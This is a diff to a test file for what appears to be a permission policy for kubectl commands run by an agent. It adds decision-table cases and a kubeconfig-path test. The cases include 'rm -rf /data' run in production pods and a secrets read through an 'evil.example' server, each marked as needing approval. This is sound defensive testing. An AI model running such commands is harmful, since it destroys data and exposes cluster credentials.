@@ -2,6 +2,7 @@ import * as assert from 'node:assert/strict';
 import { ask, allow, decisionTable } from '../support/decisionTable';
 import { testFacts } from '../support/policyFixtures';
 import { kubeconfigEntries, mergedKubeconfig } from '../../../src/core/policy/kubeconfig';
+import { gatherFacts } from '../../../src/node/facts';
 
 /**
  * Red team round 13 (option grammar), stop 31: global options that take a value read as the verb
@@ -207,4 +208,20 @@ staging('a server named on the line says the environment of the credentials sent
   ask('kubectl -s https://evil.example get secrets', { production: false }),
   allow('kubectl -s https://127.0.0.1:6443 get pods'),
   allow('kubectl --server=https://localhost:6443 get pods'),
+]);
+
+describe('the machine kubeconfig files (node facts)', () => {
+  it('lists KUBECONFIG of the environment, else ~/.kube/config, as absolute paths', () => {
+    const home = '/home/someone';
+    assert.deepEqual(gatherFacts({ cwd: '/tmp', env: {}, home }).kubeconfigFiles, ['/home/someone/.kube/config']);
+    assert.deepEqual(gatherFacts({ cwd: '/tmp', env: { KUBECONFIG: '/a/one:/b/two' }, home }).kubeconfigFiles, ['/a/one', '/b/two']);
+  });
+});
+
+staging('commands run in a pod of a cluster named past the context', [
+  ask("kubectl --cluster prod-eu-west-1 exec -it web-0 -- sh -c 'rm -rf /data'", { production: true }),
+  ask('kubectl --server https://prod-eu.k8s.acme.io exec web-0 -- rm -rf /data', { production: true }),
+  ask('kubectl --cluster=prod-eu-west-1 run wipe --image=alpine --rm -i -- rm -rf /data', { production: true }),
+  allow('kubectl --cluster prod-eu-west-1 exec web-0 -- ls /data', { production: true }),
+  allow('kubectl exec web-0 -- ls /data'),
 ]);
